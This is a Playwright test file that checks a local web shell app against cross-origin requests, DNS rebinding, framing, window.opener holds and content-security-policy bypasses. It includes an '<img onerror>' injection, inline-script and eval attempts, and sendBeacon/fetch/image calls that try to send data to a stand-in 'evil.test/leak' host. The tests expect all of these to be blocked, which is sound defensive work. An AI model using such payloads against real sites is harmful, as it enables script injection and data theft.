import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { launchChromium, startForeignServer, type ForeignServer } from '../support/browser.ts';
import { startWebShell, type RunningShell } from '../support/web-shell.ts';

/** Attacks from other pages in a real Chromium, and what the own page may do. */
let browser: Browser;
let foreign: ForeignServer;
let running: RunningShell;
let context: BrowserContext;
beforeAll(async () => {
  foreign = await startForeignServer();
  running = await startWebShell();
  browser = await launchChromium(['--host-resolver-rules=MAP rebind.test 127.0.0.1,MAP evil.test 127.0.0.1']);
});
afterAll(async () => {
  await browser.close();
  await running.close();
  await foreign.close();
});
beforeEach(async () => void (context = await browser.newContext()));
afterEach(() => context.close());

const own = () => running.shell.origin;
const elsewhere = (): [string, string][] => [
  ['another site', `http://evil.test:${foreign.port}`],
  ['another port of this computer', `http://127.0.0.1:${foreign.port}`],
];

/** Faults that the page reports: errors, refused policies, failed requests. */
function faultsOf(page: Page): string[] {
  const faults: string[] = [];
  page.on('pageerror', (error) => faults.push(`error: ${error.message}`));
  page.on('console', (message) => {
    if (message.type() === 'error') faults.push(`console: ${message.text()}`);
  });
  return faults;
}

async function openApp(): Promise<{ page: Page; token: string; faults: string[]; requests: string[] }> {
  const page = await context.newPage();
  const faults = faultsOf(page);
  const requests: string[] = [];
  page.on('request', (request) => requests.push(`${request.url()} ${request.headers()['referer'] ?? ''}`));
  const token = running.freshToken();
  await page.goto(`${own()}/#${token}`);
  await page.waitForFunction(() => document.querySelector('#app')?.childElementCount);
  return { page, token, faults, requests };
}

async function foreignPage(origin: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(`${origin}/`);
  return page;
}

describe('2d row 12: the own window', () => {
  it('signs in once, forgets the token and keeps its session over a reload', async () => {
    const { page, token, requests } = await openApp();
    expect(page.url()).toBe(`${own()}/`);
    expect(requests.join('\n')).not.toContain(token);
    const traces = await page.evaluate(() => ({
      entries: history.length,
      stored: Object.values(sessionStorage).length + Object.values(localStorage).length,
      cookie: document.cookie,
      text: document.documentElement.outerHTML,
    }));
    expect(traces).toMatchObject({ stored: 1, cookie: '' });
    expect(traces.text).not.toContain(token);
    expect(running.logText()).not.toContain(token);
    await page.reload();
    await page.waitForFunction(() => document.querySelector('#app')?.childElementCount);
    expect(await page.locator('#connection-notice').count()).toBe(0);
    await page.goBack().catch(() => null);
    expect(page.url()).not.toContain(token);
  });

  it('does not open for a token that was used before, and says so', async () => {
    const { token } = await openApp();
    const replay = await browser.newContext();
    const page = await replay.newPage();
    await page.goto(`${own()}/#${token}`);
    await page.waitForSelector('#connection-notice');
    expect(await page.locator('#connection-notice').textContent()).toContain('was used before');
    expect(await page.locator('#app > *').count()).toBe(0);
    await replay.close();
  });

  it('sends no Referer to a link target', async () => {
    const { page } = await openApp();
    foreign.seen.length = 0;
    await page.evaluate((target) => location.assign(target), `http://evil.test:${foreign.port}/link`);
    await page.waitForURL(/link$/);
    expect(foreign.seen.map(({ url, referer }) => [url, referer])).toContainEqual(['/link', undefined]);
  });
});

describe('attacks from other pages', () => {
  it('cannot read pages, exchange tokens, fetch blobs or open the socket', async () => {
    for (const [who, origin] of elsewhere()) {
      const page = await foreignPage(origin);
      const found = await page.evaluate(async (target) => {
        const attempt = (work: Promise<Response>): Promise<string> =>
          work.then(
            async (reply) => `${reply.type} ${reply.status} ${(await reply.text()).length}`,
            () => 'blocked',
          );
        const json = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"token":"x"}' };
        const socket = new Promise<string>((resolve) => {
          const opened = new WebSocket(`${target.replace('http', 'ws')}/socket`, ['fabriclab.v1', 'guess']);
          opened.onopen = () => resolve('open');
          opened.onerror = () => resolve('blocked');
        });
        return {
          page: await attempt(fetch(`${target}/`)),
          opaque: await attempt(fetch(`${target}/`, { mode: 'no-cors' })),
          login: await attempt(fetch(`${target}/api/login`, json)),
          simplePost: await attempt(fetch(`${target}/api/login`, { method: 'POST', body: '{}', mode: 'no-cors' })),
          blob: await attempt(fetch(`${target}/blob/x`, { headers: { authorization: 'Bearer guess' } })),
          upload: await attempt(fetch(`${target}/blob`, { method: 'PUT', body: 'x' })),
          socket: await socket,
        };
      }, own());
      expect(new Set(Object.values(found)), `${who} ${JSON.stringify(found)}`).toEqual(new Set(['blocked']));
    }
  });

  it('cannot include its script, show it in a frame, or keep a hold on a window of it', async () => {
    const script = /assets\/[\w-]+\.js/.exec(await (await fetch(own())).text())?.[0] ?? 'none';
    for (const [who, origin] of elsewhere()) {
      const page = await foreignPage(origin);
      const found = await page.evaluate(
        async ({ target, path }) => {
          const included = new Promise<string>((resolve) => {
            const element = document.createElement('script');
            element.onload = () => resolve('ran');
            element.onerror = () => resolve('blocked');
            element.src = `${target}/${path}`;
            document.head.append(element);
          });
          const frame = document.createElement('iframe');
          frame.src = `${target}/`;
          document.body.append(frame);
          await new Promise((resolve) => (frame.onload = resolve));
          return { included: await included, ownFrames: window.frames.length };
        },
        { target: own(), path: script },
      );
      expect(found.included, who).toBe('blocked');
      const inside = page.frames().find((frame) => frame !== page.mainFrame());
      expect(await inside?.locator('#app').count(), who).toBe(0);
      const [opened] = await Promise.all([
        context.waitForEvent('page'),
        page.evaluate((target) => void Object.assign(window, { hold: window.open(`${target}/`) }), own()),
      ]);
      await opened.waitForSelector('#connection-notice');
      expect(await page.evaluate(() => (window as unknown as { hold: Window }).hold.closed), who).toBe(true);
      expect(await opened.evaluate(() => window.opener === null), who).toBe(true);
    }
  });

  it('under a rebound DNS name get nothing', async () => {
    const page = await context.newPage();
    const reply = await page.goto(`http://rebind.test:${running.port}/`);
    expect(reply?.status()).toBe(421);
    const found = await page.evaluate(async () => {
      const init = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"token":"x"}' };
      return [await fetch('/api/login', init), await fetch('/'), await fetch('/blob/x')].map(({ status }) => status);
    });
    expect(found).toEqual([421, 421, 421]);
    const socket = await foreignPage(`http://evil.test:${foreign.port}`).then((evil) =>
      evil.evaluate(
        (port) =>
          new Promise((resolve) => {
            const opened = new WebSocket(`ws://rebind.test:${port}/socket`, ['fabriclab.v1', 'guess']);
            opened.onopen = () => resolve('open');
            opened.onerror = () => resolve('blocked');
          }),
        running.port,
      ),
    );
    expect(socket).toBe('blocked');
  });
});

describe('2d rows 1, 3 and 7: what the own page may do', () => {
  it('has no way out but fetch and WebSocket: no Node, no Electron', async () => {
    const { page } = await openApp();
    const names = ['process', 'require', 'module', 'Buffer', 'fabriclab', 'electron'];
    expect(await page.evaluate((all) => all.filter((name) => name in window), names)).toEqual([]);
  });

  it('breaks no policy, has no error and asks nobody else in a tour of all screens', async () => {
    const create = running.shell.app.handlers['lab.create'];
    await create?.({ sample: 'study-a' });
    const { page, faults, requests } = await openApp();
    await page.getByText('Study A, published').first().click();
    const screens = page.locator('nav[aria-label="Screens"] button');
    await page.locator('nav button:not([aria-disabled])').nth(8).waitFor();
    for (let index = 0; index < (await screens.count()); index += 1) {
      await screens.nth(index).click();
      await page.waitForTimeout(700);
      expect(await screens.nth(index).getAttribute('aria-current')).toBe('page');
    }
    expect(await screens.count()).toBe(9);
    expect(faults).toEqual([]);
    const strangers = requests.filter((request) => !/^(http:\/\/127\.0\.0\.1|blob:|data:)/.test(request));
    expect(strangers).toEqual([]);
  });

  it('cannot run text as code or as markup, nor reach another origin', async () => {
    const { page } = await openApp();
    const target = `http://evil.test:${foreign.port}/leak`;
    foreign.seen.length = 0;
    const found = await page.evaluate(async (outside) => {
      const attempt = (work: () => unknown): string => {
        try {
          work();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'blocked';
        }
      };
      const marked = window as unknown as { ran?: boolean };
      const inline = document.createElement('script');
      const inlineText = attempt(() => (inline.textContent = 'window.ran = true'));
      document.head.append(inline);
      const button = document.createElement('button');
      const handler = attempt(() => button.setAttribute('onclick', 'window.ran = true'));
      document.body.append(button);
      button.click();
      const style = document.createElement('style');
      style.textContent = 'body { --leak: 1 }';
      document.head.append(style);
      const beacon = navigator.sendBeacon(outside, 'x');
      const image = new Image();
      image.src = outside;
      await new Promise((resolve) => (image.onerror = resolve));
      return {
        markup: attempt(() => (document.body.innerHTML = '<img src=x onerror="window.ran = true">')),
        evaluated: attempt(() => globalThis.eval('window.ran = true')),
        policy: attempt(() =>
          (
            window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): object } }
          ).trustedTypes.createPolicy('mine', {}),
        ),
        worker: attempt(() => new Worker(outside)),
        inlineText,
        handler,
        ran: marked.ran ?? false,
        styled: getComputedStyle(document.body).getPropertyValue('--leak'),
        fetched: await fetch(outside, { mode: 'no-cors' }).then(
          () => 'done',
          () => 'blocked',
        ),
        beacon,
      };
    }, target);
    expect(found).toMatchObject({
      markup: 'TypeError',
      policy: 'TypeError',
      worker: 'TypeError',
      inlineText: 'TypeError',
      handler: 'TypeError',
      ran: false,
      styled: '',
      fetched: 'blocked',
    });
    expect(found.evaluated).not.toBe('done');
    expect(foreign.seen).toEqual([]);
  });

  it('is denied camera, microphone, place, devices and reading the clipboard', async () => {
    const { page } = await openApp();
    const names = ['camera', 'microphone', 'geolocation', 'midi', 'clipboard-read', 'local-fonts'];
    const states = await page.evaluate(
      (all) =>
        Promise.all(
          all.map((name) =>
            navigator.permissions.query({ name: name as PermissionName }).then(
              ({ state }) => state,
              () => 'denied',
            ),
          ),
        ),
      names,
    );
    expect(states).toEqual(names.map(() => 'denied'));
  });
});
